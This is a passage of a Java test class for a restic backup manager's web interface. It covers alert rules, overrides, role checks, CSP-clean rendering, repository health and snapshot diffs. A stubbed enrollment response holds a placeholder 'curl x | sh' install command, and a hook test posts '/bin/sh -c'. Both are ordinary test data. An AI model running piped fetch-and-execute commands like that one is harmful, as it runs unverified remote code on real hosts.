        assertThat(offline, containsString("name=\"threshold\" form=\"rule-form-host_offline\" type=\"number\" "
                + "min=\"0\" step=\"1\" inputmode=\"numeric\" value=\"15\""));
        assertThat(offline.substring(offline.indexOf("rule-threshold-unit-")),
                   containsString("<option value=\"minutes\" selected>minutes</option>"));
        assertThat(offline, containsString("name=\"was_threshold_s\" value=\"900\""));
        assertThat(offline, containsString("name=\"was_renotify_s\" value=\"14400\""));
        assertThat(offline, containsString("name=\"was_enabled\" value=\"true\""));
        String locked = rowOf(admin.body(), "rule-row", "repo_locked");
        assertThat(locked, containsString("inputmode=\"numeric\" value=\"2\""));
        assertThat(locked.substring(locked.indexOf("rule-threshold-unit-"), locked.indexOf("rule-renotify-")),
                   containsString("<option value=\"hours\" selected>hours</option>"));
        assertThat(locked, containsString("inputmode=\"numeric\" required value=\"90\""));
        String rpo = rowOf(admin.body(), "rule-row", "rpo_breached");
        assertThat(rpo, containsString("inputmode=\"numeric\" value=\"\" placeholder=\"default\""));
        assertThat(rpo, containsString("name=\"was_threshold_s\" value=\"\""));
        assertThat(rowOf(admin.body(), "rule-row", "check_failed"), containsString("required value=\"0\""));
        assertThat(rowOf(admin.body(), "rule-row", "agent_outdated"), containsString("<option value=\"days\" selected>days</option>"));
        assertThat(rowOf(admin.body(), "rule-row", "maintenance_failed"), not(containsString(" checked")));
        assertThat(rowOf(admin.body(), "rule-row", "backup_failed"), not(containsString("name=\"threshold\"")));
        assertThat(admin.body(), containsString("id=\"override-form\""));
        assertThat(admin.body(), containsString("id=\"override-delete-host_offline-host:" + WEB + "\""));
        assertThat(admin.body().substring(admin.body().indexOf("id=\"override-host\"")),
                   containsString("<option value=\"" + DB + "\">db-1</option>"));
        assertThat(GATEWAY.seen().stream().filter(s -> !s.method().equals("GET")).toList(), empty());
    }

    @Test
    void adminSavesARuleWithOnlyItsChangedFieldsInSeconds() {
        GATEWAY.on("GET", "/api/alerts/rules", 200, Fixtures.RULES)
                .on("PATCH", "/api/alerts/rules/host_offline", 200, "{}")
                .on("PATCH", "/api/alerts/rules/rpo_breached", 200, "{}")
                .on("PATCH", "/api/alerts/rules/maintenance_failed", 200, "{}");
        String[] offlineWas = {"was_enabled", "true", "was_severity", "warning", "was_threshold_s", "900",
                               "was_renotify_s", "14400"};
        String patch = "/api/alerts/rules/host_offline";

        // 2 hours → 7200; everything else as shown is not sent
        Page saved = post("/alerts/rules", "admin", ruleForm("host_offline", plus(offlineWas, "enabled", "on",
                "severity", "warning", "threshold", "2", "threshold_unit", "hours", "renotify", "4",
                "renotify_unit", "hours")));
        assertThat(saved.status(), is(303));
        assertThat(saved.header("Location"), is("/alerts/rules?saved=rule"));
        assertThat(GATEWAY.seen("PATCH", patch).getLast().body(), is("{\"threshold_s\":7200}"));
        assertThat(GATEWAY.seen("PATCH", patch).getLast().csrf(), is(CSRF));
        assertThat(text(get("/alerts/rules?saved=rule", "admin").body(), "saved-message"), is("✓ Rule saved."));

        // an unticked checkbox sends nothing: the was-value tells it from "unchanged"; 1 day → 86400
        post("/alerts/rules", "admin", ruleForm("host_offline", plus(offlineWas, "severity", "critical",
                "threshold", "15", "threshold_unit", "minutes", "renotify", "1", "renotify_unit", "days")));
        assertThat(GATEWAY.seen("PATCH", patch).getLast().body(),
                   is("{\"enabled\":false,\"severity\":\"critical\",\"renotify_s\":86400}"));

        // an emptied threshold is an explicit null (the default); a reminder of 0 = never
        post("/alerts/rules", "admin", ruleForm("host_offline", plus(offlineWas, "enabled", "on",
                "severity", "warning", "threshold", " ", "threshold_unit", "minutes", "renotify", "0",
                "renotify_unit", "minutes")));
        assertThat(GATEWAY.seen("PATCH", patch).getLast().body(), is("{\"threshold_s\":null,\"renotify_s\":0}"));

        // from the default to 36 hours; 30 minutes as the reminder
        post("/alerts/rules", "admin", ruleForm("rpo_breached", "was_enabled", "true", "was_severity", "critical",
                "was_threshold_s", "", "was_renotify_s", "14400", "enabled", "on", "severity", "critical",
                "threshold", "36", "threshold_unit", "hours", "renotify", "30", "renotify_unit", "minutes"));
        assertThat(GATEWAY.seen("PATCH", "/api/alerts/rules/rpo_breached").getLast().body(),
                   is("{\"threshold_s\":129600,\"renotify_s\":1800}"));

        // a rule without a threshold has no such field: ticking it on is all
        post("/alerts/rules", "admin", ruleForm("maintenance_failed", "was_enabled", "false", "was_severity", "warning",
                "was_renotify_s", "14400", "enabled", "on", "severity", "warning", "renotify", "4",
                "renotify_unit", "hours"));
        assertThat(GATEWAY.seen("PATCH", "/api/alerts/rules/maintenance_failed").getLast().body(),
                   is("{\"enabled\":true}"));

        // nothing changed: no call
        Page unchanged = post("/alerts/rules", "admin", ruleForm("host_offline", plus(offlineWas, "enabled", "on",
                "severity", "warning", "threshold", "15", "threshold_unit", "minutes", "renotify", "240",
                "renotify_unit", "minutes")));
        assertThat(unchanged.header("Location"), is("/alerts/rules?saved=unchanged"));
        assertThat(GATEWAY.seen("PATCH", patch), hasSize(3));
    }

    private static String[] plus(String[] first, String... more) {
        String[] all = java.util.Arrays.copyOf(first, first.length + more.length);
        System.arraycopy(more, 0, all, first.length, more.length);
        return all;
    }

    @Test
    void adminAddsAndRemovesOverridesWithExactBodiesAndQuery() {
        GATEWAY.on("GET", "/api/alerts/rules", 200, Fixtures.RULES)
                .on("PUT", "/api/alerts/rules/host_offline/overrides", 200, "{}")
                .on("PUT", "/api/alerts/rules/rpo_breached/overrides", 200, "{}")
                .on("PUT", "/api/alerts/rules/backup_failed/overrides", 200, "{}")
                .on("DELETE", "/api/alerts/rules/host_offline/overrides", 204, "");

        Page host = post("/alerts/rules", "admin", form("action", "override", "rule", "host_offline", "host_id", DB,
                "schedule_id", "", "enabled", "", "threshold", "2", "threshold_unit", "hours"));
        assertThat(host.status(), is(303));
        assertThat(host.header("Location"), is("/alerts/rules?saved=override"));
        assertThat(GATEWAY.seen("PUT", "/api/alerts/rules/host_offline/overrides").getLast().body(),
                   is("{\"subject\":\"host:" + DB + "\",\"threshold_s\":7200}"));

        post("/alerts/rules", "admin", form("action", "override", "rule", "rpo_breached", "host_id", "",
                "schedule_id", SCHEDULE, "enabled", "yes", "threshold", "3", "threshold_unit", "days"));
        assertThat(GATEWAY.seen("PUT", "/api/alerts/rules/rpo_breached/overrides").getLast().body(),
                   is("{\"subject\":\"schedule:" + SCHEDULE + "\",\"enabled\":true,\"threshold_s\":259200}"));

        post("/alerts/rules", "admin", form("action", "override", "rule", "backup_failed", "host_id", OLD,
                "schedule_id", "", "enabled", "no", "threshold", "", "threshold_unit", "minutes"));
        assertThat(GATEWAY.seen("PUT", "/api/alerts/rules/backup_failed/overrides").getLast().body(),
                   is("{\"subject\":\"host:" + OLD + "\",\"enabled\":false}"));

        Page removed = post("/alerts/rules", "admin", form("action", "delete_override", "rule", "host_offline",
                                                           "subject", "host:" + WEB));
        assertThat(removed.status(), is(303));
        assertThat(removed.header("Location"), is("/alerts/rules?saved=override_deleted"));
        StubGateway.Seen delete = GATEWAY.seen("DELETE", "/api/alerts/rules/host_offline/overrides").getFirst();
        assertThat(java.net.URLDecoder.decode(delete.query(), StandardCharsets.UTF_8), is("subject=host:" + WEB));
        assertThat(delete.body(), is(""));

        // refused here, before the API, with the input kept
        Map<String, String[]> refusals = new LinkedHashMap<>();
        refusals.put("one of them, not both", new String[] {"rule", "host_offline", "host_id", WEB,
                "schedule_id", SCHEDULE, "enabled", "no"});
        refusals.put("Choose a host or enter a schedule id", new String[] {"rule", "host_offline", "enabled", "no"});
        refusals.put("changes nothing", new String[] {"rule", "host_offline", "host_id", WEB, "enabled", "",
                "threshold", ""});
        refusals.put("leave it empty for Backup failed", new String[] {"rule", "backup_failed", "host_id", WEB,
                "threshold", "10", "threshold_unit", "minutes"});
        refusals.put("must be a whole number", new String[] {"rule", "host_offline", "host_id", WEB,
                "threshold", "1.5", "threshold_unit", "hours"});
        refusals.put("from 0 to 365 days", new String[] {"rule", "rpo_breached", "schedule_id", "s-9",
                "threshold", "400", "threshold_unit", "days"});
        refusals.forEach((reason, fields) -> {
            Map<String, String> f = form("action", "override");
            for (int i = 0; i + 1 < fields.length; i += 2) {
                f.put(fields[i], fields[i + 1]);
            }
            Page refused = post("/alerts/rules", "admin", f);
            assertThat(reason, refused.status(), is(422));
            assertThat(reason, text(refused.body(), "add-override"), containsString(reason));
        });
        Page kept = post("/alerts/rules", "admin", form("action", "override", "rule", "rpo_breached",
                "schedule_id", "s-9", "enabled", "yes", "threshold", "400", "threshold_unit", "days"));
        assertThat(kept.body(), containsString("<option value=\"rpo_breached\" selected>"));
        assertThat(kept.body(), containsString("name=\"schedule_id\" maxlength=\"128\" spellcheck=\"false\" value=\"s-9\""));
        assertThat(kept.body(), containsString("<option value=\"yes\" selected>"));
        assertThat(kept.body(), containsString("name=\"threshold\" type=\"number\" min=\"0\" step=\"1\" "
                + "inputmode=\"numeric\" value=\"400\""));
        assertThat(GATEWAY.seen().stream().filter(s -> s.method().equals("PUT")).toList(), hasSize(3));
    }

    @Test
    void aRefusedRuleOrOverrideReRendersWithTheApisDetailAndTheInputKept() {
        GATEWAY.on("GET", "/api/alerts/rules", 200, Fixtures.RULES)
                .on("PATCH", "/api/alerts/rules/repo_locked", 422, "{\"title\":\"Unprocessable Content\",\"status\":422,"
                        + "\"detail\":\"threshold_s must be whole seconds from 0 to one year (or null for the default)\"}")
                .on("PUT", "/api/alerts/rules/host_offline/overrides", 422, "{\"title\":\"Unprocessable Content\","
                        + "\"status\":422,\"detail\":\"subject must be host:<host id> or schedule:<schedule id>\"}")
                .on("DELETE", "/api/alerts/rules/host_offline/overrides", 404, "{\"title\":\"Not Found\",\"status\":404,"
                        + "\"detail\":\"no override of host_offline for host:gone\"}");

        Page rule = post("/alerts/rules", "admin", ruleForm("repo_locked", "was_enabled", "true", "was_severity", "info",
                "was_threshold_s", "7200", "was_renotify_s", "5400", "enabled", "on", "severity", "warning",
                "threshold", "45", "threshold_unit", "minutes", "renotify", "3", "renotify_unit", "hours"));
        assertThat(rule.status(), is(422));
        assertThat(GATEWAY.seen("PATCH", "/api/alerts/rules/repo_locked").getLast().body(),
                   is("{\"severity\":\"warning\",\"threshold_s\":2700,\"renotify_s\":10800}"));
        assertThat(text(rule.body(), "rule-problem-repo_locked"), containsString("whole seconds from 0 to one year"));
        String locked = rowOf(rule.body(), "rule-row", "repo_locked");
        assertThat(locked, containsString("<option value=\"warning\" selected>Warning</option>"));
        assertThat(locked, containsString("inputmode=\"numeric\" value=\"45\""));
        assertThat(locked.substring(locked.indexOf("rule-threshold-unit-"), locked.indexOf("rule-renotify-")),
                   containsString("<option value=\"minutes\" selected>minutes</option>"));
        assertThat(locked, containsString("required value=\"3\""));
        // the was-values stay what the API has, so a second save compares with the stored rule
        assertThat(locked, containsString("name=\"was_threshold_s\" value=\"7200\""));
        assertThat(rowOf(rule.body(), "rule-row", "host_offline"), containsString("inputmode=\"numeric\" value=\"15\""));
        assertThat(rule.body(), not(containsString("id=\"rule-problem-host_offline\"")));

        // checked here first: no call, the same place for the message
        Page typo = post("/alerts/rules", "admin", ruleForm("host_offline", "was_enabled", "true", "enabled", "on",
                "threshold", "ten", "threshold_unit", "minutes", "renotify", "4", "renotify_unit", "hours"));
        assertThat(typo.status(), is(422));
        assertThat(text(typo.body(), "rule-problem-host_offline"), containsString("The threshold must be a whole number"));
        assertThat(rowOf(typo.body(), "rule-row", "host_offline"), containsString("value=\"ten\""));
        Page noReminder = post("/alerts/rules", "admin", ruleForm("host_offline", "threshold", "", "renotify", "",
                "renotify_unit", "hours"));
        assertThat(text(noReminder.body(), "rule-problem-host_offline"), containsString("0 = never"));
        Page tooLong = post("/alerts/rules", "admin", ruleForm("host_offline", "renotify", "53",
                "renotify_unit", "weeks"));
        assertThat(text(tooLong.body(), "rule-problem-host_offline"), containsString("choose minutes, hours or days"));
        assertThat(GATEWAY.seen("PATCH", "/api/alerts/rules/host_offline"), empty());

        Page override = post("/alerts/rules", "admin", form("action", "override", "rule", "host_offline", "host_id", "",
                "schedule_id", "bad id!", "enabled", "no", "threshold", "20", "threshold_unit", "minutes"));
        assertThat(override.status(), is(422));
        assertThat(text(override.body(), "add-override"), containsString("subject must be host:&lt;host id&gt;"));
        assertThat(override.body(), containsString("value=\"bad id!\""));
        assertThat(override.body(), containsString("<option value=\"no\" selected>"));
        assertThat(override.body(), containsString("inputmode=\"numeric\" value=\"20\""));
        assertThat(override.body(), not(containsString("id=\"rules-problem\"")));

        Page gone = post("/alerts/rules", "admin", form("action", "delete_override", "rule", "host_offline",
                                                        "subject", "host:gone"));
        assertThat(gone.status(), is(404));
        assertThat(text(gone.body(), "rules-problem"), containsString("no override of host_offline for host:gone"));
    }

    @Test
    void operatorsAndViewersCannotChangeAlertRules() {
        GATEWAY.on("GET", "/api/alerts/rules", 200, Fixtures.RULES);
        for (String role : List.of("viewer", "operator")) {
            Page rule = post("/alerts/rules", role, ruleForm("host_offline", "enabled", "on", "threshold", "1",
                    "threshold_unit", "hours", "renotify", "4", "renotify_unit", "hours"));
            assertThat(role, rule.status(), is(403));
            assertThat(role, text(rule.body(), "rules-problem"), containsString("needs the admin role"));
            assertThat(role, rule.body(), not(containsString("rule-form-")));
            assertThat(role, post("/alerts/rules", role, form("action", "override", "rule", "host_offline",
                    "host_id", WEB, "enabled", "no")).status(), is(403));
            assertThat(role, post("/alerts/rules", role, form("action", "delete_override", "rule", "host_offline",
                    "subject", "host:" + WEB)).status(), is(403));
        }
        assertThat(GATEWAY.seen().stream().filter(s -> s.path().startsWith("/api/alerts/rules")
                && !s.method().equals("GET")).toList(), empty());
    }

    /** The table row with this class whose data-…-id is {@code id}, up to its end. */
    private static String rowOf(String html, String cls, String id) {
        Matcher m = Pattern.compile("<tr class=\"" + Pattern.quote(cls) + "[^\"]*\" data-[a-z-]+-id=\"" + Pattern.quote(id) + "\"")
                .matcher(html);
        assertThat(cls + " " + id, m.find(), is(true));
        return html.substring(m.start(), html.indexOf("</tr>", m.start()));
    }

    /** Every page and fragment, rendered with strict templates, checked for CSP violations and leftovers. */
    @Test
    void everyPageRendersCleanlyWithoutInlineStylesOrScripts() {
        GATEWAY.on("POST", "/api/hosts/" + WEB + "/jobs", 409, "{\"title\":\"Conflict\",\"status\":409,\"detail\":\"busy\"}")
                .on("POST", "/api/enrollment-tokens", 201, "{\"token\":\"t\",\"expires_at\":\"2099-01-01T00:00:00Z\",\"install_command\":\"curl x | sh\"}")
                .on("GET", "/api/repos/" + REPO, 200, Fixtures.repo(true, DB, 7, true));
        List<Page> pages = new java.util.ArrayList<>();
        pages.add(get("/login", null));
        pages.add(get("/login?logged_out=1", null));
        pages.add(get("/setup", null));
        for (String role : List.of("viewer", "operator", "admin")) {
            pages.add(get("/", role));
            pages.add(get("/", role, "HX-Request", "true"));
            pages.add(get("/hosts/" + WEB, role));
            pages.add(get("/hosts/" + WEB + "/jobs", role));
            pages.add(get("/hosts/" + WEB + "/actions", role));
            pages.add(get("/hosts/" + WEB + "/actions", role, "HX-Request", "true"));
            pages.add(get("/jobs/" + JOB, role));
            pages.add(get("/jobs/" + JOB, role, "HX-Request", "true"));
            pages.add(get("/repos", role));
            pages.add(get("/repos/" + REPO, role));
            pages.add(get("/hosts/new", role));
            pages.add(get("/no/such/page", role));
        }
        pages.add(post("/hosts/" + WEB + "/actions", "admin", form("action", "prune")));
        pages.add(post("/hosts/" + WEB + "/actions", "admin", form("action", "check", "read_data_subset", "10%")));
        pages.add(post("/hosts/new", "admin", form()));
        pages.add(get("/hosts/" + WEB + "/actions?saved=disable", "admin"));
        pages.add(post("/repos/" + REPO, "admin", form("action", "lease", "offline_lease_days", "x")));
        pages.add(get("/repos/" + REPO + "?saved=lease", "admin"));
        GATEWAY.on("GET", "/api/schedules", 200, FULL_SCHEDULES);
        for (String role : List.of("viewer", "operator")) {
            pages.add(get("/hosts/" + WEB + "/schedules", role));
            pages.add(get("/hosts/" + WEB + "/schedules?edit=" + SCHEDULE, role));
            pages.add(get("/hosts/" + WEB + "/schedules?edit=s-forget", role, "HX-Request", "true"));
        }
        pages.add(post("/hosts/" + WEB + "/schedules", "operator", form("action", "edit", "schedule_id", SCHEDULE,
                                                                        "kind", "backup", "paths", "")));
        GATEWAY.on("GET", "/api/schedules", 200, Fixtures.HOOKED_SCHEDULES)
                .on("GET", "/api/hosts/" + WEB + "/hooks", 200, Fixtures.HOST_HOOKS_ADMIN)
                .on("PUT", "/api/hosts/" + WEB + "/hooks", 422, "{\"title\":\"Unprocessable Content\",\"status\":422,\"detail\":\"no\"}");
        for (String role : List.of("viewer", "operator", "admin")) {
            pages.add(get("/hosts/" + WEB, role));
            pages.add(get("/hosts/" + WEB + "/jobs", role));
            pages.add(get("/hosts/" + WEB + "/actions", role));
            pages.add(get("/hosts/" + WEB + "/schedules", role));
            pages.add(get("/hosts/" + WEB + "/schedules?edit=" + SCHEDULE, role));
            pages.add(get("/hosts/" + WEB + "/schedules?edit=s-weekly", role, "HX-Request", "true"));
            pages.add(get("/hosts/" + WEB + "?saved=hooks", role));
            pages.add(post("/hosts/" + WEB + "/hooks", role, form("hook_shell", "/bin/sh -c", "pre_hook", "true")));
        }
        pages.add(post("/hosts/" + WEB + "/hooks", "admin", form("hook_timeout_s", "0")));
        pages.add(post("/hosts/" + WEB + "/schedules", "admin", form("action", "edit", "schedule_id", SCHEDULE,
                                                                     "kind", "backup", "paths", "", "pre_hook", "")));
        GATEWAY.on("GET", "/api/hosts/" + WEB + "/hooks", 200, Fixtures.HOST_HOOKS);
        pages.add(get("/hosts/" + WEB, "viewer"));
        GATEWAY.on("GET", "/api/hosts/" + WEB + "/hooks", 500, "{}");
        pages.add(get("/hosts/" + WEB, "admin"));
        pages.add(post("/hosts/" + WEB + "/hooks", "admin", form("hook_timeout_s", "0")));
        GATEWAY.on("GET", "/api/alerts", 200, Fixtures.ALERTS)
                .on("GET", "/api/alerts/silences", 200, Fixtures.SILENCES)
                .on("GET", "/api/alerts/rpo", 200, Fixtures.RPO)
                .on("GET", "/api/alert-channels", 200, Fixtures.CHANNELS)
                .on("GET", "/api/alerts/deliveries", 200, Fixtures.DELIVERIES)
                .on("POST", "/api/alerts/" + Fixtures.ALERT_WEB + "/ack", 409, "{\"title\":\"Conflict\",\"status\":409,\"detail\":\"no\"}")
                .on("POST", "/api/alert-channels/" + Fixtures.CHANNEL + "/test", 200, "{\"delivered\":false,\"error\":\"refused\"}");
        for (String role : List.of("viewer", "operator", "admin")) {
            pages.add(get("/", role));
            pages.add(get("/hosts/" + WEB, role));
            pages.add(get("/hosts/" + WEB + "/schedules", role));
            pages.add(get("/alerts", role));
            pages.add(get("/alerts?state=resolved&host_id=" + DB + "&saved=silence", role));
            pages.add(get("/alerts?silence_rule=backup_failed&silence_host=" + WEB, role));
            pages.add(get("/rpo", role));
            pages.add(get("/rpo", role, "HX-Request", "true"));
            pages.add(get("/alerts/channels", role));
            pages.add(get("/alerts/channels?saved=created", role));
        }
        pages.add(post("/alerts", "viewer", form("action", "ack", "alert_id", Fixtures.ALERT_WEB)));
        pages.add(post("/alerts", "operator", form("action", "ack", "alert_id", Fixtures.ALERT_WEB)));
        pages.add(post("/alerts", "operator", form("action", "silence", "duration_s", "3600")));
        pages.add(post("/alerts/channels", "admin", form("action", "test", "channel_id", Fixtures.CHANNEL, "channel_name", "ops hook")));
        pages.add(post("/alerts/channels", "admin", form("action", "create", "kind", "webhook", "name", "x")));
        GATEWAY.on("GET", "/api/alerts/rules", 200, Fixtures.RULES)
                .on("PATCH", "/api/alerts/rules/repo_locked", 422, "{\"title\":\"Unprocessable Content\",\"status\":422,\"detail\":\"no\"}")
                .on("PUT", "/api/alerts/rules/host_offline/overrides", 422, "{\"title\":\"Unprocessable Content\",\"status\":422,\"detail\":\"no\"}")
                .on("DELETE", "/api/alerts/rules/host_offline/overrides", 404, "{\"title\":\"Not Found\",\"status\":404,\"detail\":\"no\"}");
        for (String role : List.of("viewer", "operator", "admin")) {
            pages.add(get("/alerts/rules", role));
            pages.add(get("/alerts/rules?saved=override", role));
            pages.add(post("/alerts/rules", role, ruleForm("repo_locked", "enabled", "on", "severity", "warning",
                    "threshold", "45", "threshold_unit", "minutes", "renotify", "3", "renotify_unit", "hours")));
        }
        pages.add(post("/alerts/rules", "admin", ruleForm("host_offline", "threshold", "x", "renotify", "4")));
        pages.add(post("/alerts/rules", "admin", form("action", "override", "rule", "host_offline", "host_id", WEB,
                                                      "enabled", "no")));
        pages.add(post("/alerts/rules", "admin", form("action", "override", "rule", "backup_failed")));
        pages.add(post("/alerts/rules", "admin", form("action", "delete_override", "rule", "host_offline",
                                                      "subject", "host:" + WEB)));
        GATEWAY.on("GET", "/api/alerts/rules", 200, "{\"items\":[],\"overrides\":[]}");
        pages.add(get("/alerts/rules", "admin"));
        pages.add(get("/alerts/rules", "viewer"));
        GATEWAY.on("GET", "/api/alerts", 200, "{\"items\":[],\"firing\":0}")
                .on("GET", "/api/alerts/silences", 200, "{\"items\":[]}")
                .on("GET", "/api/alerts/rpo", 200, "{\"items\":[],\"at\":\"2026-11-26T12:00:00Z\"}")
                .on("GET", "/api/alert-channels", 200, "{\"items\":[]}")
                .on("GET", "/api/alerts/deliveries", 200, "{\"items\":[]}");
        pages.add(get("/alerts", "operator"));
        pages.add(get("/rpo", "viewer"));
        pages.add(get("/alerts/channels", "admin"));
        GATEWAY.on("GET", "/api/alerts/silences", 500, "{}");
        pages.add(get("/alerts", "operator"));

        Pattern inlineScript = Pattern.compile("<script(?![^>]*\\ssrc=)[^>]*>", Pattern.CASE_INSENSITIVE);
        Pattern handler = Pattern.compile("\\son[a-z]+\\s*=", Pattern.CASE_INSENSITIVE);
        for (Page page : pages) {
            String body = page.body();
            assertThat(body, page.status() < 500, is(true));
            assertThat(body, not(containsString("style=")));
            assertThat(body, not(containsString("<style")));
            assertThat(body, not(containsString("hx-on")));
            assertThat(inlineScript.matcher(body).find(), is(false));
            assertThat(handler.matcher(body).find(), is(false));
            assertThat(body, not(containsString("{{")));
            assertThat(body, not(containsString("null")));
            assertThat(body, not(containsString("Optional")));
            assertThat(body, not(containsString("[B@")));
            assertThat(body, not(containsString("io.resticmanager")));
            assertThat(page.header("Content-Security-Policy"), containsString("script-src 'self'"));
        }
    }

    /** A tiny JSON reader for assertions on what the stub received. */
    static final class Http {
        static JsonNode tree(String json) {
            try {
                return Json.MAPPER.readTree(json);
            } catch (Exception e) {
                throw new AssertionError("not JSON: " + json, e);
            }
        }
    }

    private static final String REPO_HEALTH = """
            {"id":"%s","name":"nas","url":"/srv/restic","env_keys":[],"has_prune_credential":false,"host_count":1,
             "stats":{"total_size":3000,"raw_size":3000,"restore_size":9000,"dedup_ratio":3.0,"snapshot_count":4,
                      "last_check_at":"2026-11-26T09:00:00Z","last_check_status":"failed",
                      "updated_at":"2026-11-26T10:00:00Z"},
             "locks":{"checked_at":"2026-11-26T10:00:00Z","count":1,"stale":1,"items":[{"id":"%s","time":
                      "2026-11-26T08:00:00Z","exclusive":true,"hostname":"web-1","username":"root","pid":4242,
                      "stale":true}]},
             "hosts":[{"id":"%s","name":"web-1","hostname":"web-1","role":"primary","primary":true,"online":true,
                       "disabled":false}],
             "created_at":"2026-11-01T10:00:00Z","updated_at":"2026-11-20T10:00:00Z","offline_lease_days":7,
             "offline_lease_on_disk":false,"maintenance_host_id":null}""".formatted(REPO, "ab".repeat(32), WEB);

    private static final String HISTORY = """
            {"items":[{"at":"2026-11-25T10:00:00Z","mode":"raw-data","total_size":1000,"snapshot_count":2},
                      {"at":"2026-11-26T10:00:00Z","mode":"raw-data","total_size":3000,"snapshot_count":4}]}""";

    @Test
    void theRepositoryPageShowsHealthLocksHostsAndTrendChartsAndOnlyOperatorsUnlock() {
        GATEWAY.on("GET", "/api/repos/" + REPO, 200, REPO_HEALTH)
                .on("GET", "/api/repos/" + REPO + "/stats/history", 200, HISTORY)
                .on("POST", "/api/repos/" + REPO + "/jobs", 202, "{\"job_id\":\"" + JOB + "\",\"status\":\"queued\"}");
        for (String role : List.of("viewer", "operator", "admin")) {
            String body = get("/repos/" + REPO, role).body();
            assertThat(role, text(body, "repo-size"), is("2.9 KiB"));
            assertThat(role, text(body, "repo-restore-size"), is("8.8 KiB (3.00× dedup &amp; compression)"));
            assertThat(role, text(body, "repo-snapshot-count"), is("4"));
            assertThat(role, text(body, "repo-last-check-status"), is("✗ failed"));
            assertThat(role, text(body, "locks-stale"), is("⚠ 1 stale"));
            assertThat(role, body, containsString("data-lock-id=\"" + "ab".repeat(32) + "\""));
            assertThat(role, text(body, "repo-host-list"), containsString("web-1"));
            assertThat(role, body, not(containsString("more not shown")));
            assertThat(role, count(body, "class=\"chart-dot\""), is(4));
            assertThat(role, body, containsString("<figure class=\"chart\" id=\"size-chart\" data-points=\"2\">"));
            assertThat(role, body.contains("id=\"unlock-button\""), is(!role.equals("viewer")));
        }
        GATEWAY.seen().clear();
        Page unlock = post("/repos/" + REPO, "operator", form("action", "unlock"));
        assertThat(unlock.status(), is(303));
        assertThat(unlock.header("Location"), is("/jobs/" + JOB));
        assertThat(Http.tree(GATEWAY.seen("POST", "/api/repos/" + REPO + "/jobs").getFirst().body())
                           .path("kind").asText(), is("unlock"));
        // a repository nobody backs up to: the API's refusal shows next to the buttons
        GATEWAY.on("POST", "/api/repos/" + REPO + "/jobs", 409, "{\"title\":\"Conflict\",\"status\":409,"
                + "\"detail\":\"no host backs up to repository\"}");
        Page refused = post("/repos/" + REPO, "operator", form("action", "stats"));
        assertThat(refused.status(), is(409));
        assertThat(refused.body(), containsString("no host backs up to repository"));
    }

    @Test
    void hostCardsCarryTheirRepositorysSizeSparkline() {
        GATEWAY.on("GET", "/api/repos?brief=true&trend_points=20", 200, """
                {"items":[{"id":"%s","name":"nas","trend":[{"at":"2026-11-25T10:00:00Z","total_size":1000},
                  {"at":"2026-11-26T10:00:00Z","total_size":3000}]}]}""".formatted(REPO));
        String body = get("/", "viewer").body();
        assertThat(body, containsString("<svg class=\"sparkline\" viewBox=\"0 0 80 20\" role=\"img\" "
                + "aria-label=\"Size of nas: 1000 B → 2.9 KiB over 2 measurements\">"));
        assertThat(body, containsString("<polyline points=\"1,19 79,1\"></polyline>"));
    }

    @Test
    void operatorsCompareTwoSnapshotsAndSeeThePagedDiff() {
        String diffJob = "77777777-0000-4000-8000-000000000007";
        GATEWAY.on("POST", "/api/hosts/" + WEB + "/diffs", 202, "{\"job_id\":\"" + diffJob + "\",\"status\":\"queued\"}")
                .on("GET", "/api/jobs/" + diffJob + "/diff", 200, """
                        {"job_id":"%s","status":"succeeded","snapshot_id":"ffeeddccbbaa99887766",
                         "other_snapshot_id":"a1b2c3d4e5f6a7b8c9d0","summary":{"added_files":1,"added_dirs":0,
                         "added_bytes":10,"removed_files":1,"removed_dirs":1,"removed_bytes":5,"changed_files":1,
                         "entries":4,"entries_total":4,"truncated":false},
                         "items":[{"path":"/etc/new.conf","change":"added","type":"file","new_size":10},
                                  {"path":"/etc/old","change":"removed","type":"dir"},
                                  {"path":"/etc/gone.conf","change":"removed","type":"file","old_size":5},
                                  {"path":"/etc/hosts","change":"changed","type":"file","old_size":2048,
                                   "new_size":4096}],
                         "next_cursor":"12"}""".formatted(diffJob));
        assertThat(get("/hosts/" + WEB, "operator").body(), containsString("id=\"diff-open\""));
        assertThat(get("/hosts/" + WEB, "viewer").body(), not(containsString("id=\"diff-open\"")));
        Page pick = get("/hosts/" + WEB + "/diff", "operator");
        assertThat(pick.body(), containsString("<option value=\"ffeeddccbbaa99887766\" selected>ffeeddcc"));
        assertThat(get("/hosts/" + WEB + "/diff", "viewer").body(), not(containsString("id=\"diff-form\"")));
        Page same = post("/hosts/" + WEB + "/diff", "operator", form("snapshot_id", "a1b2c3d4e5f6a7b8c9d0",
                                                                      "other_snapshot_id", "a1b2c3d4e5f6a7b8c9d0"));
        assertThat(same.status(), is(422));
        Page started = post("/hosts/" + WEB + "/diff", "operator", form("snapshot_id", "ffeeddccbbaa99887766",
                                                                         "other_snapshot_id", "a1b2c3d4e5f6a7b8c9d0"));
        assertThat(started.status(), is(303));
        assertThat(started.header("Location"), is("/hosts/" + WEB + "/diffs/" + diffJob));
        String body = get("/hosts/" + WEB + "/diffs/" + diffJob, "viewer").body();
        assertThat(text(body, "diff-added"), is("1 file, 0 directories · 10 B"));
        assertThat(text(body, "diff-changed"), is("1 file"));
        assertThat(count(body, "class=\"diff-row "), is(4));
        assertThat(body, containsString("<td class=\"diff-path\">/etc/old/</td>"));
        assertThat(body, containsString("2.0 KiB → 4.0 KiB"));
        assertThat(body, containsString("href=\"/hosts/" + WEB + "/diffs/" + diffJob + "?cursor=12\""));
        assertThat(body, not(containsString("hx-trigger=\"every 2s\"")));
        // the diff job's own page links to the comparison
        GATEWAY.on("GET", "/api/jobs/" + diffJob, 200, ("{\"id\":\"%s\",\"host_id\":\"%s\",\"kind\":\"diff\","
                + "\"status\":\"succeeded\",\"created_by\":\"olga\",\"created_at\":\"2026-11-26T08:59:00Z\"}")
                .formatted(diffJob, WEB))
                .on("GET", "/api/jobs/" + diffJob + "/logs", 200, "{\"items\":[],\"next_after_seq\":0}");
        assertThat(get("/jobs/" + diffJob, "viewer").body(), containsString("id=\"job-diff-link\" href=\"/hosts/" + WEB
                + "/diffs/" + diffJob + "\""));
    }
}
